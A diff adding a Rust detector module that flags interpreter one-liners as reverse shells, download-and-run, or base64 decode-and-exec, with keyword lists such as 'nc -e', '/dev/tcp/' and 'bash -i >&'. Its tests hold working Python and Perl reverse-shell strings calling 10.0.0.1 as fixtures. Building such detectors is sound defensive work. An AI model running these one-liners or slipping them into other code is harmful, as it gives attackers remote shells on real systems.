@@ -1,0 +1,247 @@
+//! Interpreter one-liners: `python -c`, `perl -e`, `ruby -e`, `php -r`, `node -e`, `lua -e`,
+//! `awk` programs. Code that opens a socket and runs a shell over it (dup2, pty.spawn,
+//! subprocess, exec, `/inet/tcp`) is a reverse shell; code that decodes a payload and runs it
+//! (b64decode + exec/eval) is obfuscated execution. Other one-liners are left alone.
+
+use super::{args, class_of, Ctx, Findings};
+use crate::analysis::shell::SimpleCommand;
+use crate::knowledge::{signals, ToolClass};
+
+const SOCKET: &[&str] = &[
+    "socket",
+    "tcpsocket",
+    "fsockopen",
+    "net.connect",
+    "net.socket",
+    "/inet/tcp",
+    "io::socket",
+    "require('net')",
+    "require(\"net\")",
+    "createconnection",
+    "stream_socket_client",
+];
+const SHELL_EXEC: &[&str] = &[
+    "dup2",
+    "pty.spawn",
+    "subprocess",
+    "/bin/sh",
+    "/bin/bash",
+    "sh -i",
+    "exec(",
+    "system(",
+    "popen",
+    "spawn(",
+    "child_process",
+    "os.system",
+    "exec \"/bin",
+    "proc_open",
+    "shell_exec",
+    "|&",
+    "io.popen",
+    "system$_",
+    "fdopen",
+    "exec sh",
+    "exec bash",
+];
+/// Inline code that runs a known reverse-shell command itself.
+const SHELL_COMMANDS: &[&str] = &[
+    "nc -e",
+    "ncat -e",
+    "nc -c",
+    "/dev/tcp/",
+    "bash -i >&",
+    "sh -i >&",
+    "mkfifo",
+];
+const FETCH: &[&str] = &[
+    "urlopen",
+    "urllib",
+    "requests.get",
+    "http.get",
+    "https.get",
+    "lwp::simple",
+    "open-uri",
+    "file_get_contents(\"http",
+    "file_get_contents('http",
+    "net::http",
+    "fetch(",
+];
+const DECODE: &[&str] = &[
+    "b64decode",
+    "base64",
+    "decode_base64",
+    "unpack(\"m",
+    "unpack('m",
+    "fromhex",
+    "unhexlify",
+    "codecs.decode",
+    "zlib.decompress",
+    "atob(",
+];
+const RUN: &[&str] = &[
+    "exec(",
+    "eval(",
+    "system(",
+    "popen",
+    "loads(",
+    "function(",
+    "compile(",
+];
+
+pub fn detect(cx: &Ctx, out: &mut Findings) {
+    for c in cx.commands() {
+        let p = c.program();
+        if class_of(p) != Some(ToolClass::Interpreter) {
+            continue;
+        }
+        let Some(code) = inline_code(c) else { continue };
+        let lower = code.to_ascii_lowercase();
+        let has = |set: &[&str]| set.iter().any(|k| lower.contains(k));
+        if (has(SOCKET) && has(SHELL_EXEC)) || has(SHELL_COMMANDS) {
+            let signal = if p.starts_with("python") {
+                signals::PYTHON_REVERSE_SHELL
+            } else {
+                signals::SCRIPT_REVERSE_SHELL
+            };
+            out.hit(
+                signal,
+                format!(
+                    "{p} one-liner opening a socket and running a shell{}",
+                    ip_hint(code)
+                ),
+            );
+        } else if has(FETCH) && has(RUN) {
+            out.hit(
+                signals::DOWNLOAD_PIPE_SHELL,
+                format!("{p} one-liner downloading and running code"),
+            );
+        } else if p.starts_with("python") && lower.contains("pty.spawn") && !cx.tty {
+            out.hit(
+                signals::PTY_UPGRADE,
+                format!("{p} pty.spawn without a terminal"),
+            );
+        } else if has(DECODE) && has(RUN) {
+            out.hit(
+                signals::INLINE_CODE_DECODE_EXEC,
+                format!("{p} one-liner decoding and running a payload"),
+            );
+        }
+    }
+}
+
+/// The inline program text of an interpreter invocation.
+fn inline_code(c: &SimpleCommand) -> Option<&str> {
+    let p = c.program();
+    let a = args(c);
+    if p.ends_with("awk") {
+        return a.iter().find(|x| !x.starts_with('-')).map(String::as_str);
+    }
+    let opts: &[&str] = if p.starts_with("python") {
+        &["-c"]
+    } else if p.starts_with("php") {
+        &["-r"]
+    } else if p.starts_with("node") {
+        &["-e", "--eval", "-p", "--print"]
+    } else {
+        &["-e", "-E"]
+    };
+    for (i, x) in a.iter().enumerate() {
+        if opts.contains(&x.as_str()) {
+            return a.get(i + 1).map(String::as_str);
+        }
+        // perl/ruby clusters such as `-MIO -e` are separate; `-ne`, `-pe` end in e.
+        if !p.starts_with("python")
+            && x.len() > 2
+            && x.starts_with('-')
+            && !x.starts_with("--")
+            && x.ends_with('e')
+            && x[1..].bytes().all(|b| b.is_ascii_alphabetic())
+        {
+            return a.get(i + 1).map(String::as_str);
+        }
+    }
+    None
+}
+
+/// ` to HOST:PORT` when the code holds a quoted address followed by a port.
+fn ip_hint(code: &str) -> String {
+    let bytes = code.as_bytes();
+    let mut i = 0;
+    while i < bytes.len() {
+        if bytes[i].is_ascii_digit() {
+            let start = i;
+            while i < bytes.len() && (bytes[i].is_ascii_digit() || bytes[i] == b'.') {
+                i += 1;
+            }
+            let cand = &code[start..i];
+            if cand.matches('.').count() == 3 {
+                let rest = &code[i..];
+                let port: String = rest
+                    .trim_start_matches(|c: char| !c.is_ascii_digit() && c != ')' && c != ';')
+                    .chars()
+                    .take_while(char::is_ascii_digit)
+                    .collect();
+                return if port.is_empty() {
+                    format!(" to {cand}")
+                } else {
+                    format!(" to {cand}:{port}")
+                };
+            }
+        }
+        i += 1;
+    }
+    String::new()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::super::testutil::*;
+    use super::*;
+
+    #[test]
+    fn fires_on_socket_shells() {
+        let py = "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"10.0.0.1\",4242));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")";
+        assert_eq!(
+            run(detect, &["python3", "-c", py]),
+            ["python_reverse_shell"]
+        );
+        let pl = "use Socket;$i=\"10.0.0.1\";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");exec(\"/bin/sh -i\");};";
+        assert_eq!(run(detect, &["perl", "-e", pl]), ["script_reverse_shell"]);
+        assert_eq!(
+            run(
+                detect,
+                &[
+                    "python3",
+                    "-c",
+                    "import base64;exec(base64.b64decode('aW1wb3J0IG9z'))"
+                ]
+            ),
+            ["inline_code_decode_exec"]
+        );
+    }
+
+    #[test]
+    fn quiet_on_plain_one_liners() {
+        assert!(run(
+            detect,
+            &[
+                "python3",
+                "-c",
+                "import json,sys; print(json.load(sys.stdin)['version'])"
+            ]
+        )
+        .is_empty());
+        assert!(run(
+            detect,
+            &[
+                "perl",
+                "-pi",
+                "-e",
+                "s/^#?Port 22$/Port 2222/",
+                "/etc/ssh/sshd_config"
+            ]
+        )
+        .is_empty());
+        assert!(run(detect, &["awk", "{print $1}", "file"]).is_empty());
+    }
+}
